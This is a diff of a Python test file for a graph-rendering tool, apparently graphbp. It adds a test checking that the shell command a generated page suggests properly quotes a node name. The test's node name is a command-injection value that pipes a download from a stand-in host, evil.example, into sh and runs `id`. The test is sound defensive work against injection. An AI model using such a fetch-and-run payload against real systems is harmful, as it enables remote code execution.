@@ -5,18 +5,21 @@ highlighting is computed in the page from one edge list). Sizes and counts, neve
 
 from __future__ import annotations
 
+import html
 import json
 import re
+import shlex
 import shutil
 from pathlib import Path
 from typing import Any
 
+import networkx as nx
 import pytest
 from helpers import CHROMEDRIVER, CHROMIUM, graphbp, highlighted
 
 import graphbp as gb
 from graphbp import page as page_module
-from graphbp.chain import MAX_LISTED_FACTORS, MAX_PATHS_LIMIT, Edge
+from graphbp.chain import MAX_LISTED_FACTORS, MAX_PATHS_LIMIT, Edge, Flow
 from graphbp.render import edge_id, node_id
 
 needs_dot = pytest.mark.skipif(
@@ -220,3 +223,11 @@ def test_unlisted_parameters_are_still_highlighted_exactly(
     browser.find_element(By.ID, node_id(net, "b11")).click()
     assert browser.find_element(By.ID, "formula").text.startswith("∂L/∂b11 = ")
     assert browser.get_log("browser") == []
+
+
+def test_the_command_a_page_suggests_quotes_the_name_for_the_shell() -> None:
+    hostile = "W;$(curl evil.example|sh) `id`"
+    net = gb.Network(nx.relabel_nodes(gb.seed_network(3, 4, 1), {"W1": hostile}))
+    line = html.unescape(page_module._unlisted(hostile, Flow(net)))
+    assert line.endswith(f"graphbp explain GRAPH --wrt {shlex.quote(hostile)} writes it out")
+    assert shlex.split(line.split("graphbp explain GRAPH --wrt ")[1])[0] == hostile
